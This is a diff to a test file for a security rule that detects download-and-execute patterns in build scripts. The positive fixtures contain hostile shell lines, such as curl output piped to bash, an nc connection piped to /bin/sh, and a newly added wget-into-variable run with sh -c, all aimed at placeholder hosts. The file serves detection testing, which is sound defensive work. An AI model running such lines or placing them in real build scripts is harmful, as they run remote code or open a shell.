@@ -11,6 +11,7 @@ const positives: [string, string][] = [
   ['m4/net-probe.m4', 'AC_DEFUN([NET_PROBE], [\n  probe=$(curl --silent "$PROBE_URL")\n  echo "$probe" | bash\n])\n'],
   ['bootstrap', '#!/bin/bash\nbash <(curl -sL https://get.invalid/install)\n'],
   ['scripts/fetch.sh', '#!/bin/sh\nnc 192.0.2.7 4444 | /bin/sh\n'],
+  ['ci/setup.sh', '#!/bin/sh\nSETUP="$(wget \\\n  -qO- \\\n  https://setup.invalid/s)"\nsh -c "$SETUP"\n'],
 ]
 
 /** look-alikes: downloads that are not executed, and executions of what was not downloaded */
@@ -20,6 +21,8 @@ const negatives: [string, string][] = [
   ['configure.ac', 'AC_INIT([x], [1])\nCURL_VERSION=`curl --version | head -n1`\n'],
   ['build/check.sh', '#!/bin/sh\ncurl -s https://api.invalid/status | grep -q ok && echo up\n'],
   ['build/run.sh', '#!/bin/sh\necho "make all" | sh\n'],
+  // an upload whose answer is kept in a variable that spans lines: the substitution runs, its output is data
+  ['ci/publish.sh', '#!/bin/bash\nHTML="$(curl \\\n\t--silent \\\n\t--form file=@build.tgz \\\n\thttps://scan.invalid/builds)"\nSTATUS="$(echo "$HTML" | tail -n1)"\n'],
 ]
 
 ruleCases(RULE, 'critical', positives, negatives)
